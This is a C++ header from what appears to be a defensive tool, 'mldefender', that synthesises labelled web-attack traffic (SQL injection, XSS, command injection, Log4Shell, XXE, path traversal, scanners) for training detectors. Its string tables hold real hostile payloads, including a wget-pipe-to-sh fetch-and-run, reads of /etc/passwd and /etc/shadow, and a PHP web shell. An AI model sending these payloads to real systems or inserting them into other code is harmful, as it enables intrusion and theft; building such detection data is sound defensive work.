// SPDX-License-Identifier: MIT
// Attacks on web applications: injection, scripting, remote execution, traversal, and scanners that walk long lists of
// paths. The grammar of such requests is general; none is taken from a capture. Listed in scenario.hpp.
#pragma once

#include <cstdint>
#include <string>

#include <mldefender/forge/synth/attack_plan.hpp>

namespace mldefender {
inline namespace v0 {
namespace forge {
namespace detail::attack {

/// A malicious query or path of the given kind, never the same twice.
[[nodiscard]] inline std::string hostile_path(rng& r, std::uint32_t kind) {
    std::string word = world::word(r);
    const std::string number = std::to_string(r.below(9000));
    static constexpr std::string_view injections[] = {
        "%27%20OR%20%271%27=%271", "%27%20UNION%20SELECT%20NULL,NULL--%20", "1%20AND%20SLEEP(5)",
        "%27;DROP%20TABLE%20users--", "1)%20AND%20ASCII(SUBSTRING((SELECT%20database()),1,1))%3E64--"};
    static constexpr std::string_view scripts[] = {"%3Cscript%3Ealert(1)%3C/script%3E",
                                                   "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
                                                   "javascript:alert(document.cookie)"};
    static constexpr std::string_view commands[] = {";cat%20/etc/passwd", "|wget%20http://x/a.sh%20-O-|sh", "$(id)",
                                                    "`uname%20-a`", "%26%26%20whoami"};
    static constexpr std::string_view files[] = {"etc/passwd", "windows/win.ini", "proc/self/environ", "etc/shadow"};
    switch (kind) {
        case 0: return "/" + word + ".php?id=" + number + std::string{r.pick(injections)};
        case 1: return "/" + word + "?q=" + std::string{r.pick(scripts)} + number;
        case 2: return "/cgi-bin/" + word + "?a=" + std::string{r.pick(commands)};
        case 3: {
            std::string path = "/" + word + "?file=";
            for (int n = r.pick_int(3, 9); n > 0; --n) path += "../";
            return path += r.pick(files);
        }
        case 4: return "/" + word + "?x=${jndi:ldap://" + word + ".example:1389/" + number + "}";
        case 5: return "/" + word + "?url=http://127.0.0.1:" + number + "/admin";
        default: return "/" + word + ".php?cmd=" + word + "&path=..%2f..%2fuploads%2f" + number + ".php";
    }
}
/// Kinds of hostile paths.
inline constexpr std::uint32_t hostile_kinds = 7;

/// What a form carries in such an attack: the same grammar, or a document or an object that the server unpacks.
[[nodiscard]] inline std::string hostile_form(rng& r, std::uint32_t kind) {
    static constexpr std::string_view documents[] = {
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "O:8:\"stdClass\":1:{s:3:\"cmd\";s:6:\"whoami\";}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==", "<?php system($_GET['c']); ?>", "() { :;}; /bin/bash -c 'id'"};
    std::string form = "user=a&comment=";
    return r.chance(0.3) ? form += r.pick(documents) : form += hostile_path(r, kind);
}

/// Who visits whose site with which program.
struct visit {
    opponents who;
    std::uint16_t port;
    std::string site;
    std::string_view agent;

    [[nodiscard]] static visit draw(stage& s) {
        static constexpr std::uint16_t ports[] = {80, 80, 80, 8080};
        visit v{};
        v.who = opponents::draw(s, 0.6);
        v.port = s.random.pick(ports);
        v.site = s.net.site(s.random);
        v.agent = s.random.pick(payload::agents);
        return v;
    }
};

struct injection {
    static constexpr std::string_view name = "injection";
    static constexpr std::string_view about =
        "SQL injection, scripting, command execution, look-up strings and path traversal in queries, forms and headers";
    static constexpr attack_class label = attack_class::web;
    static constexpr int weight = 12;
    static void emit(stage& s) {
        rng& r = s.random;
        const visit v = visit::draw(s);
        const std::uint32_t kind = r.below(hostile_kinds);
        const int each = r.chance(0.5) ? 1 : r.pick_int(2, 60);
        const int requests = s.scaled(r.log_between(1, 300));
        const pace rhythm = pace::poisson(r.log_between(units::ms, 10 * units::second));
        repeat(s, {s.some_time(), (requests + each - 1) / each, rhythm}, [&](std::int64_t when) {
            tcp_session t{s, {v.who.attacker, v.who.victim, v.port, when}};
            t.open();
            for (int i = 0; i < each && !t.over(); ++i) ask(s, t, v, kind);
            if (kind == 4 && r.chance(0.5)) call_back(s, v, t.now());
            t.end();
            return t.now();
        });
    }

private:
    static void ask(stage& s, tcp_session& t, const visit& v, std::uint32_t kind) {
        rng& r = s.random;
        const std::string hostile = hostile_path(r, kind);
        const bool in_form = r.chance(0.3);
        const std::string form = hostile_form(r, kind);
        const std::string header = kind == 4 && r.chance(0.4) ? "X-Api-Version: " + hostile.substr(1) + "\r\n" : "";
        t.up(payload::http_ask(r, {.method = in_form ? "POST" : "GET",
                                   .path = in_form ? "/form" : std::string_view{hostile},
                                   .host = v.site,
                                   .agent = v.agent,
                                   .body = in_form ? static_cast<std::int64_t>(form.size()) : 0,
                                   .body_head = in_form ? std::string_view{form} : std::string_view{},
                                   .extra = header}));
        t.think(kind == 0 && r.chance(0.1) ? 5 * units::second : r.log_between(units::ms, 300 * units::ms));
        const int status = r.chance(0.7) ? 200 : r.chance(0.5) ? 500 : 403;
        t.down(payload::http_reply(r, status, r.log_between(100, 9000)));
    }
    /// The server fetches what it was told to.
    static void call_back(stage& s, const visit& v, std::int64_t when) {
        tcp_session back{s, {v.who.victim, v.who.attacker, 1389, when}};
        back.open()
            .up(payload::ldap(1, 0x60, ""))
            .down(payload::ldap(1, 0x61, ""))
            .up(payload::ldap(2, 0x63, "Exploit", 20))
            .down(payload::ldap(2, 0x64, "javaCodeBase", 120))
            .end();
    }
};

struct path_scanner {
    static constexpr std::string_view name = "path_scanner";
    static constexpr std::string_view about =
        "web scanners walking lists of paths: hundreds of requests, nearly all 404 or 403, on few or many connections";
    static constexpr attack_class label = attack_class::web;
    static constexpr int weight = 8;
    static void emit(stage& s) {
        rng& r = s.random;
        const visit v = visit::draw(s);
        const int each = r.chance(0.5) ? 1 : r.pick_int(2, 100);
        const std::int64_t missing = r.between(150, 2000);
        const pace rhythm = pace::poisson(r.log_between(500 * units::us, 500 * units::ms));
        const int requests = s.scaled(r.log_between(40, 1500));
        repeat(s, {s.some_time(), (requests + each - 1) / each, rhythm}, [&](std::int64_t when) {
            tcp_session t{s, {v.who.attacker, v.who.victim, v.port, when}};
            t.open();
            for (int i = 0; i < each && !t.over(); ++i) {
                ask(s, t, v, missing);
                if (each > 1 && r.chance(0.2)) t.think(rhythm.next(r));
            }
            t.end();
            return each == 1 ? when : t.now();  // several at once, or one after the other
        });
    }

private:
    static void ask(stage& s, tcp_session& t, const visit& v, std::int64_t missing) {
        rng& r = s.random;
        static constexpr std::string_view endings[] = {".php", ".bak",         ".old",    "/",    ".cgi",
                                                       ".asp", "/.git/config", "/admin/", ".zip", ".env"};
        std::string path = "/" + world::word(r);
        path += r.pick(endings);
        if (r.chance(0.15)) path = hostile_path(r, r.below(hostile_kinds));
        t.up(payload::http_ask(
            r, {.method = r.chance(0.3) ? "HEAD" : "GET", .path = path, .host = v.site, .agent = v.agent}));
        const std::uint32_t luck = r.below(20);
        t.down(payload::http_reply(r, luck < 17 ? 404 : luck < 19 ? 403 : 200, r.around(missing, 3)));
    }
};

}  // namespace detail::attack
}  // namespace forge
}  // namespace v0
}  // namespace mldefender
